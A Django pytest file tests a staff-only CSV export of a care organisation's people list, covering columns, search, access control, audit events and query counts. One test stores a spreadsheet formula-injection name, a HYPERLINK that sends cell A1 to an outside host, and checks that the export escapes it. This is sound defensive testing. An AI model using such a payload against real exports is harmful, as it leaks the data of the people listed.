"""The people list as a spreadsheet (/people/csv/): a worker's caseload or what their search
found, every person on every page, the list's columns in words, safe to open, for staff only,
audited with everyone in it, and in a number of queries that does not grow with the caseload."""

import datetime

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from tandem import testing
from tandem.accounts.models import Role
from tandem.audit.models import AuditAction, AuditEvent
from tandem.people.models import Person
from tandem.plans.models import Plan
from tandem.ui.tests.csv_files import read_csv

pytestmark = pytest.mark.django_db

URL = reverse("people:list_csv")
HEADER = [
    "Name",
    "Known as",
    "Record closed",
    "Local identifier",
    "Date of birth",
    "Team",
    "Allocated worker",
    "Plan",
]


def test_it_holds_the_lists_columns_in_words(client_for, worker, person, org, team):
    plan = testing.make_plan(person, worker)
    Plan.objects.filter(pk=plan.pk).update(status=Plan.Status.AGREED)
    closed = testing.make_person(
        org, team, given_name="Cal", family_name="Zed", local_identifier="RC0002"
    )
    Person.objects.filter(pk=closed.pk).update(closed_on=datetime.date(2026, 1, 5))
    response = client_for(worker).get(URL)
    assert response["Content-Disposition"].startswith('attachment; filename="people-')
    assert read_csv(response) == [
        HEADER,
        [
            "Priya Patel",
            "Pri",
            "No",
            "RC0001",
            "1970-01-01",
            "North adults team",
            "Wendy Worker",
            "Agreed",
        ],
        [
            "Cal Zed",
            "",
            "Yes",
            "RC0002",
            "1970-01-01",
            "North adults team",
            "Not allocated",
            "No plan",
        ],
    ]


def test_it_holds_every_person_the_search_finds_on_every_page(client_for, worker, org, team):
    for n in range(30):
        testing.make_person(org, team, given_name="Robin", family_name=f"Hood{n}")
    testing.make_person(org, team, given_name="Alex", family_name="Other")
    client = client_for(worker)
    assert len(read_csv(client.get(URL, {"page": "2"}))) == 1 + 31
    found = read_csv(client.get(URL, {"q": "robin", "page": "2"}))[1:]
    assert len(found) == 30 and {row[0].split()[0] for row in found} == {"Robin"}
    # The list links to the file with its search, not its page number.
    html = client.get(reverse("people:list"), {"q": "robin", "page": "2"}).text
    assert f'href="{URL}?q=robin"' in html


def test_only_the_people_the_worker_may_see_are_in_it(client_for, person, other_team_worker):
    assert read_csv(client_for(other_team_worker).get(URL)) == [HEADER]


def test_a_name_that_would_run_as_a_formula_is_kept_as_text(client_for, worker, org, team):
    testing.make_person(
        org,
        team,
        given_name='=HYPERLINK("http://example.com/?x="&A1,"Open")',
        family_name="Smith",
        preferred_name="+Sam",
        local_identifier="-1",
    )
    row = read_csv(client_for(worker).get(URL))[1]
    assert row[0] == '\'=HYPERLINK("http://example.com/?x="&A1,"Open") Smith'
    assert row[1:4] == ["'+Sam", "No", "'-1"]


def test_a_search_refused_on_the_list_is_refused_the_same_way(client_for, worker, person):
    client = client_for(worker)
    response = client.get(URL, {"q": "x" * 101})
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "There is a problem" in response.text
    assert client.head(URL, {"q": "x" * 101}).status_code == 400


@pytest.mark.parametrize("role", [Role.PERSON, Role.CARER, Role.PROVIDER, Role.ADMINISTRATOR])
def test_only_staff_may_download_it(client_for, org, team, person, role):
    user = testing.make_user(org, role=role, teams=(team,))
    if role == Role.PERSON:
        person.user = user
        person.save()
    else:
        testing.make_circle_member(person, user=user)
    client = client_for(user)
    before = AuditEvent.objects.count()
    assert client.get(URL).status_code == 403
    assert AuditEvent.objects.count() == before
    assert f'href="{URL}' not in client.get(reverse("people:list")).text


def test_someone_signed_out_is_asked_to_sign_in(client):
    response = client.get(URL)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_a_download_is_one_event_with_its_search_rows_and_everyone_in_it(
    client_for, manager, person, org, team
):
    other = testing.make_person(org, team, given_name="Priya", family_name="Shah")
    before = AuditEvent.objects.count()
    client_for(manager).get(URL, {"q": "priya"})
    assert AuditEvent.objects.count() == before + 1
    event = AuditEvent.objects.first()
    assert (event.action, event.actor) == (AuditAction.PEOPLE_SEARCH_VIEW, manager)
    assert event.summary == "Downloaded the list of people as a spreadsheet"
    assert event.detail == {
        "filters": {"q": "priya"},
        "format": "csv",
        "rows": 2,
        "people": sorted([person.pk, other.pk]),
    }


def _bulk_people(org, team, worker, count: int, start: int) -> None:
    people = Person.objects.bulk_create(
        Person(
            organisation=org,
            team=team,
            given_name="Sam",
            family_name=f"Bulk{start + n:04d}",
            date_of_birth=datetime.date(1970, 1, 1),
            local_identifier=f"BK{start + n:05d}",
            allocated_worker=None if n % 3 else worker,
        )
        for n in range(count)
    )
    Plan.objects.bulk_create(
        Plan(organisation=org, person=p, created_by=worker, status=Plan.Status.AGREED)
        for p in people[::2]
    )


def _queries(client) -> int:
    with CaptureQueriesContext(connection) as captured:
        rows = read_csv(client.get(URL))
    return len(captured), len(rows)


def test_the_number_of_queries_does_not_grow_with_the_caseload(client_for, worker, org, team):
    client = client_for(worker)
    client.get(reverse("people:list"))  # the session, once
    _bulk_people(org, team, worker, 10, 0)
    small, rows = _queries(client)
    assert rows == 1 + 10
    _bulk_people(org, team, worker, 190, 10)
    testing.analyze_tables()
    large, rows = _queries(client)
    assert (large, rows) == (small, 1 + 200)
